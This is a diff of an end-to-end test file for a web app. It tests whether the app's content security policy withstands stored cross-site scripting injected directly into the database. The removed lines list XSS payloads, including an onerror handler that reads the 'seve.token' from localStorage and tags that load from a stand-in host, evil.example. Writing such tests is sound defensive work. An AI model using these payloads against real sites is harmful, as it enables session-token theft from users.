@@ -1,52 +1,20 @@
-import { cpSync, mkdtempSync, rmSync } from 'node:fs'
-import { tmpdir } from 'node:os'
-import { join } from 'node:path'
-import { readConfig } from '../../server/config.ts'
-import { type RunningServer, startServer } from '../../server/start.ts'
 import { expect, test } from './fixtures.ts'
+import { type JourneyServer, startJourneyServer } from './journey-server.ts'
+import { poison } from './poison.ts'
 
 const camille = 'camille@example.org'
 const reading = 'medfasting-honest-promise'
 
-/** What an attacker with write access to the database would put into a media to read every member's token. */
-const poison = [
-  '<p>Texte gardé</p>',
-  '<img src="x" onerror="alert(localStorage.getItem(\'seve.token\'))">',
-  '<script>alert(1)</script><svg><script>alert(2)</script></svg><svg onload="alert(3)"></svg>',
-  '<iframe srcdoc="<script>alert(4)</script>"></iframe><iframe src="https://evil.example/"></iframe>',
-  '<a href="javascript:alert(5)">piège</a><img src="https://evil.example/pixel.gif">',
-  '<style>@import "https://evil.example/css"</style><link rel="stylesheet" href="https://evil.example/css">',
-  '<form action="https://evil.example/"><input name="password" autofocus onfocus="alert(6)"></form>',
-  '<details open ontoggle="alert(7)">x</details><object data="https://evil.example/x.swf"></object>',
-].join('')
-
 test.describe('a row written straight into the database', () => {
-  let server: RunningServer
-  let dataFolder = ''
+  let server: JourneyServer
   let url = ''
 
   test.beforeAll(async () => {
-    dataFolder = mkdtempSync(join(tmpdir(), 'seve-poisoned-'))
-    cpSync(process.env.SEVE_E2E_DATA ?? '', dataFolder, { recursive: true })
-    const config = { ...readConfig({ NODE_ENV: 'test', LOG_LEVEL: 'silent' }), dataFolder }
-    server = await startServer({ config })
-    const { database, catalogue } = server.services
-    await database.pool.query(
-      `update media set digest = 'poisoned', data = jsonb_set(jsonb_set(data, '{words,fr,content}', to_jsonb($1::text)), '{words,en,content}', to_jsonb($1::text))`,
-      [poison],
-    )
-    await database.pool.query(
-      `update media set data = jsonb_set(data, '{mainMediaUrl}', '"https://films.example/one.mp4"') where id = 'breathe-six'`,
-    )
-    await database.pool.query("update content_version set version = 'poisoned'")
-    await catalogue.refresh()
-    url = await server.app.listen({ port: 0, host: 'localhost' })
+    server = await startJourneyServer('tests/e2e/poisoned-server.ts')
+    url = server.url
   })
 
-  test.afterAll(async () => {
-    await server.close()
-    rmSync(dataFolder, { recursive: true, force: true })
-  })
+  test.afterAll(() => server.stop())
 
   test('the policy of documents allows a host that content names since the server started', async () => {
     const { headers } = await fetch(`${url}/login`)
